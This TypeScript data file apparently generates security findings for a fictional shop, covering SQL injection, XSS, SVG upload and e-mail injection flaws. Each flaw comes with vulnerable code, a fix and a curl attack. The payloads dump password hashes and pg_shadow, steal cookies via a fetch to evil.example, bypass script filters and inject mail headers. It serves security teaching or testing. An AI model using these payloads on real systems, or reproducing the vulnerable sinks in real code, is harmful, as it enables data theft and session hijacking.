import type { Flaw } from './flaw.ts';

/** Input that ends up in a query, a page or a program. */
export const flawsOfInjection = {
  sort: {
    type: 'SQLI',
    cwe: 'CWE-89',
    ratings: ['userTakeover', 'userRead', 'anonymousRead'],
    file: 'repository',
    titles: [
      (s) => `SQL injection through the sort order of ${s.many}`,
      (s) => `\`ORDER BY\` built from user input in \`${s.repository}\``,
    ],
    texts: [
      (s) =>
        `Column names can't be bound, so \`?sort=\` is concatenated into \`ORDER BY\`. A \`CASE WHEN (SELECT …) THEN … END\` turns the order of the ${s.many} into an oracle, one bit per request.`,
      (s) =>
        `\`${s.repository}.list\` appends \`sort\` and \`direction\` to the statement. The check \`/^\\w+/\` lacks its end anchor: \`id; --\` passes.`,
    ],
    sink: (s) => `query.orderBy(\`${s.store}.\${sort} \${direction}\`);`,
    fix: (s) => `query.orderBy(\`${s.store}.\${sortable[sort] ?? 'id'}\`, direction === 'desc' ? 'DESC' : 'ASC');`,
    attack: (s) =>
      `curl -G -H "Authorization: Bearer $TOKEN" --data-urlencode "sort=(CASE WHEN (SELECT 1)=1 THEN id ELSE name END)" https://shop.example.com${s.route}`,
  },
  filter: {
    type: 'SQLI',
    cwe: 'CWE-89',
    ratings: ['anonymousTakeover', 'userTakeover', 'anonymousRead'],
    file: 'repository',
    titles: [
      (s) => `SQL injection in the text filter for ${s.many}`,
      (s) => `Unescaped \`LIKE\` pattern in \`${s.repository}.search\``,
    ],
    texts: [
      (s) =>
        `The search term is placed between \`'%\` and \`%'\` in a template string. A quote ends the literal; \`UNION SELECT\` then reads any table, ${s.shows} included.`,
      (s) =>
        `\`manager.query()\` is called with an interpolated string although it takes parameters. Input: \`q\` of \`GET ${s.route}\`. Example: \`q=%27%20OR%201=1--\`.`,
    ],
    sink: (s) =>
      `return this.manager.query(\`SELECT * FROM ${s.key.replaceAll('-', '_')} WHERE name LIKE '%\${q}%'\`);`,
    fix: (s) =>
      `return this.manager.query('SELECT * FROM ${s.key.replaceAll('-', '_')} WHERE name LIKE $1', [\`%\${q}%\`]);`,
    attack: (s) =>
      `curl -G --data-urlencode "q=' UNION SELECT 1,email,password_hash FROM users --" https://shop.example.com${s.route}`,
  },
  report: {
    type: 'SQLI',
    cwe: 'CWE-89',
    ratings: ['adminTakeover', 'userTakeover', 'adminRead'],
    file: 'job',
    titles: [
      (s) => `Second-order SQL injection in the nightly job for ${s.many}`,
      (s) => `Stored filter expression of ${s.many} is executed as SQL`,
    ],
    texts: [
      () =>
        `Saving is parameterized. The nightly job reads the saved expression back and pastes it into \`WHERE\`; what was harmless as data becomes part of a statement that runs with the rights of the reporting user.`,
      (s) =>
        `\`jsonb\` paths are assembled with \`->>'\${column}'\`. Column names come from the stored definition of ${s.aOne} and may hold a quote.`,
    ],
    sink: () => `await this.warehouse.query(\`SELECT \${columns} FROM facts WHERE \${definition.where}\`);`,
    fix: () => 'await this.warehouse.query(compile(definition, allowedColumns));',
    attack: (s) =>
      `curl -X POST -H "Authorization: Bearer $TOKEN" -d '{"where":"1=1) UNION SELECT usename, passwd FROM pg_shadow --"}' https://shop.example.com${s.route}`,
  },
  stored: {
    type: 'XSS',
    cwe: 'CWE-79',
    ratings: ['storedScript', 'storedScript', 'userReadAndChange'],
    file: 'view',
    titles: [
      (s) => `Stored XSS in ${s.many} shown to the support desk`,
      (s) => `Unsanitized Markdown in ${s.aOne} runs script for everyone who opens it`,
      (s) => `\`dangerouslySetInnerHTML\` renders text of ${s.many}`,
    ],
    texts: [
      (s) =>
        `The text of ${s.aOne} goes through \`marked()\` with its default options and into \`dangerouslySetInnerHTML\`. \`<img src=x onerror="fetch('//evil.example/'+document.cookie)">\` survives and runs in the session of whoever reads it.`,
      () =>
        `Only \`<script>\` tags are removed, by a regular expression that runs once: \`<scr<script>ipt>alert(1)</scr</script>ipt>\` comes out whole. Payloads in \`onfocus\`, \`</textarea>\` and \`[link](javascript:alert(1))\` are untouched.`,
    ],
    sink: () => `<div dangerouslySetInnerHTML={{ __html: marked(text) }} />`,
    fix: () => `<Markdown>{text}</Markdown>`,
    attack: (s) =>
      `curl -X POST -H "Authorization: Bearer $TOKEN" -d '{"text":"<img src=x onerror=alert(document.domain)>"}' https://shop.example.com${s.route}`,
  },
  reflected: {
    type: 'XSS',
    cwe: 'CWE-79',
    ratings: ['reflectedScript'],
    file: 'view',
    titles: [
      (s) => `Reflected XSS in the page for ${s.many}`,
      (s) => `Query parameter \`back\` is echoed into a link on ${s.many}`,
    ],
    texts: [
      () =>
        `The server-side template prints \`?q=\` inside \`<script>window.__STATE__ = …</script>\` with \`JSON.stringify\`. A term that contains \`</script><script>alert(1)</script>\` closes the block early.`,
      () =>
        '`back` becomes an `href` without a look at its scheme. `?back=javascript:alert(1)` needs one click; the page is the one that customers are sent to from e-mails.',
    ],
    sink: () => `res.send(\`<script>window.__STATE__ = \${JSON.stringify(state)}</script>\`);`,
    fix: () => `res.send(\`<script>window.__STATE__ = \${serialize(state, { isJSON: true })}</script>\`);`,
    attack: (s) => `https://shop.example.com/${s.key}?q=%3C/script%3E%3Cscript%3Ealert(1)%3C/script%3E`,
  },
  svg: {
    type: 'XSS',
    cwe: 'CWE-434',
    ratings: ['storedScript', 'reflectedScript'],
    file: 'controller',
    titles: [
      (s) => `SVG files attached to ${s.many} are served as active content`,
      (s) => `Script in uploaded images of ${s.many} runs on the shop’s own origin`,
    ],
    texts: [
      () =>
        'The upload filter accepts `image/*`, SVG among it, and files are delivered from the main domain with their stored type. An SVG with `<script>` or `onload=` executes when opened in a tab.',
      (s) =>
        `\`Content-Disposition: attachment\` is set for PDF but not for images. Combined with the missing \`X-Content-Type-Options\`, ${s.aOne} with a polyglot GIF/HTML file turns into a page.`,
    ],
    sink: () => "fileFilter: (_req, file, done) => done(null, file.mimetype.startsWith('image/')),",
    fix: () =>
      "fileFilter: (_req, file, done) => done(null, ['image/png', 'image/jpeg', 'image/webp'].includes(file.mimetype)),",
    attack: (s) =>
      `curl -F 'file=@evil.svg;type=image/svg+xml' -H "Authorization: Bearer $TOKEN" https://shop.example.com${s.route}/10021/images`,
  },
  mail: {
    type: 'XSS',
    cwe: 'CWE-80',
    ratings: ['reflectedScript', 'hardPeek'],
    file: 'job',
    titles: [
      (s) => `HTML injection in e-mails about ${s.many}`,
      (s) => `Sender-controlled text is not escaped in ${s.one} e-mails`,
    ],
    texts: [
      (s) =>
        `The e-mail template uses triple braces, \`{{{message}}}\`. A message with markup lets ${s.by} send convincing phishing pages from the shop's own address.`,
      () =>
        'A line break in the display name (`"Ada\\r\\nBcc: all@example.com"`) adds a header: the name is concatenated into `From:` before encoding.',
    ],
    sink: () => '<p>{{{message}}}</p>',
    fix: () => '<p>{{message}}</p>',
    attack: (s) =>
      `curl -X POST -H "Authorization: Bearer $TOKEN" -d '{"message":"<a href=//evil.example>Confirm your card</a>"}' https://shop.example.com${s.route}`,
  },
} as const satisfies Record<string, Flaw>;
